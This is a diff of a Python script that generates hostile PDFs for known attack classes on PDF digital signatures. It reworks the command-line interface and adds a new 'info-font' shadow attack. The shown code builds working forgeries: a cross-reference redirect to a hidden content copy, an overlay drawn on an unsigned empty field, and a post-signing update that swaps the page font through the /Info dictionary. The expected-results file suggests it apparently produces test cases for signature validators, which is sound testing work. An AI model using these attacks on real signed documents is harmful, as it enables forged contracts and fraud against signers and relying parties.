@@ -2,10 +2,9 @@
 """Builds hostile PDFs from the published attack classes on PDF signatures.
 
 Usage: make-attacks.py SIGNED.pdf UNSIGNED.pdf OUTDIR [CERTIFIED-P2.pdf CERTIFIED-P3.pdf]
-       make-attacks.py --shadow-base UNSIGNED.pdf BASE.pdf   (to be signed, then:)
-       make-attacks.py --shadow-redirect SIGNED-BASE.pdf OUTDIR
-       make-attacks.py --empty-field-base UNSIGNED.pdf BASE.pdf   (to be signed, then:)
-       make-attacks.py --empty-field-attacks SIGNED-BASE.pdf OUTDIR
+       make-attacks.py --prepare NAME UNSIGNED.pdf BASE.pdf   (BASE.pdf to be signed, then:)
+       make-attacks.py --attack NAME SIGNED-BASE.pdf OUTDIR
+       (NAME: shadow, empty-field, info-font)
 
 SIGNED.pdf has one signature covering the whole file (classic xref table);
 UNSIGNED.pdf is a plain one-page document. Every attack is written to
@@ -366,12 +365,10 @@ def empty_field_base(unsigned_path, out_path):
         }, unsigned_path))
 
 
-def empty_field_attacks(signed_path, out_dir):
+def empty_field_attacks(signed_path):
     """Sneaky signature on an existing field: after signing, the empty
     field draws over the page without anyone signing it — by redrawing its
     appearance object, or by giving it a new one."""
-    global OUT
-    OUT = out_dir
     signed = open(signed_path, "rb").read()
     size, _, _ = trailer_info(signed_path)
     field = next(num for num in range(1, size) if "/T (Tanda1)" in show(signed_path, num))
@@ -382,15 +379,11 @@ def empty_field_attacks(signed_path, out_dir):
         new_ap: stream(OVERLAY, EMPTY_FIELD_AP),
         field: show(signed_path, field).replace("/N %d 0 R" % ap, "/N %d 0 R" % new_ap).encode()}, signed_path),
         "MODIFIED")
-    with open(os.path.join(OUT, "expected.txt"), "a") as f:
-        f.write("\n".join(EXPECTED) + "\n")
 
 
-def shadow_redirect(signed_path, out_dir):
+def shadow_redirect(signed_path):
     """Hide-and-replace, step 2: after signing, an update of nothing but a
     cross-reference entry points the content object at the hidden copy."""
-    global OUT
-    OUT = out_dir
     signed = open(signed_path, "rb").read()
     size, root, info = trailer_info(signed_path)
     _, contents = first_page(signed_path)
@@ -403,20 +396,60 @@ def shadow_redirect(signed_path, out_dir):
         trailer += b" /Info " + info.encode()
     update = b"xref\n%d 1\n%010d 00000 n\r\ntrailer\n<<%s>>\nstartxref\n%d\n%%%%EOF\n" % (num, hidden, trailer, xref)
     write("shadow-xref-redirect", signed + update, "MODIFIED")
+
+
+def info_font_base(unsigned_path, out_path):
+    """Shadow attack, prepared: the trailer's /Info is the page's font map,
+    so 'only the metadata changed' would change how the text is drawn."""
+    data = open(unsigned_path, "rb").read()
+    size, root, _ = trailer_info(unsigned_path)
+    page, _ = first_page(unsigned_path)
+    fonts = re.search(r"/Font (\d+) 0 R", show(unsigned_path, page)).group(1)
+    xref = len(data)
+    with open(out_path, "wb") as f:
+        f.write(data + b"xref\n0 1\n0000000000 65535 f\r\ntrailer\n<< /Size %d /Root %d 0 R /Prev %d /Info %s 0 R >>"
+                b"\nstartxref\n%d\n%%%%EOF\n" % (size, root, last_startxref(data), fonts.encode(), xref))
+
+
+def info_font_attack(signed_path):
+    """...and after signing, the 'information dictionary' maps the font
+    name to another font."""
+    signed = open(signed_path, "rb").read()
+    size, _, info = trailer_info(signed_path)
+    num = int(info.split()[0])
+    name = re.search(r"(/\w+) \d+ 0 R", show(signed_path, num)).group(1)
+    write("shadow-info-is-font-map", add_update(signed, {
+        num: b"<< %s %d 0 R >>" % (name.encode(), size),
+        size: b"<< /Type /Font /Subtype /Type1 /BaseFont /Courier >>"}, signed_path), "MODIFIED")
+
+
+# Attacks on a document the attacker prepares and the victim signs:
+# --prepare NAME builds it, --attack NAME changes it once signed.
+PREPARED = {
+    "shadow": (shadow_base, shadow_redirect),
+    "empty-field": (empty_field_base, empty_field_attacks),
+    "info-font": (info_font_base, info_font_attack),
+}
+
+
+def prepared(argv):
+    mode, name = argv[1:3]
+    prepare, attack = PREPARED[name]
+    if mode == "--prepare":
+        return prepare(argv[3], argv[4])
+    global OUT
+    OUT = argv[4]
+    attack(argv[3])
     with open(os.path.join(OUT, "expected.txt"), "a") as f:
         f.write("\n".join(EXPECTED) + "\n")
 
 
+
+
 def main():
     global OUT, OUT_SIGNED
-    if sys.argv[1] == "--shadow-base":
-        return shadow_base(sys.argv[2], sys.argv[3])
-    if sys.argv[1] == "--shadow-redirect":
-        return shadow_redirect(sys.argv[2], sys.argv[3])
-    if sys.argv[1] == "--empty-field-base":
-        return empty_field_base(sys.argv[2], sys.argv[3])
-    if sys.argv[1] == "--empty-field-attacks":
-        return empty_field_attacks(sys.argv[2], sys.argv[3])
+    if sys.argv[1] in ("--prepare", "--attack"):
+        return prepared(sys.argv)
     signed_path, unsigned_path, OUT = sys.argv[1:4]
     OUT = OUT
     OUT_SIGNED = signed_path
